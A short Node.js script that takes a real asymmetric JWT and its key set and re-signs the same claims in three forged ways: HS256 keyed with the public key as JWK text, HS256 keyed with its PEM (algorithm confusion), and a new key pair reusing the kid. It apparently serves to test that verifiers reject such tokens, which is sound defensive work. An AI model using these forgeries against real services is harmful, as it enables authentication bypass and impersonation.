// forge.mjs: the classic forgeries of an asymmetric token, made with jose:
//   node forge.mjs TOKEN JWKS
// prints "name token" lines, each the token's header and claims signed in a
// way a verifier must refuse: HS256 keyed with the public key's bytes (as
// its JWK text, as its PEM), and a fresh key pair under the same kid.
import { createPublicKey } from 'node:crypto';
import { SignJWT, decodeJwt, decodeProtectedHeader, generateKeyPair } from 'jose';

const [token, jwksText] = process.argv.slice(2);
const { alg, kid, typ } = decodeProtectedHeader(token);
const claims = decodeJwt(token);
const jwk = JSON.parse(jwksText).keys.find((key) => key.kid === kid);
if (!jwk) {
	console.error(`no key ${kid} in the set`);
	process.exit(1);
}

const sign = (headerAlg, key) =>
	new SignJWT(claims).setProtectedHeader({ alg: headerAlg, kid, typ }).sign(key);
const bytes = (text) => new TextEncoder().encode(text);
const pem = createPublicKey({ key: jwk, format: 'jwk' }).export({ type: 'spki', format: 'pem' });

console.log('hs256-jwk', await sign('HS256', bytes(JSON.stringify(jwk))));
console.log('hs256-pem', await sign('HS256', bytes(pem)));
console.log('another-key', await sign(alg, (await generateKeyPair(alg)).privateKey));
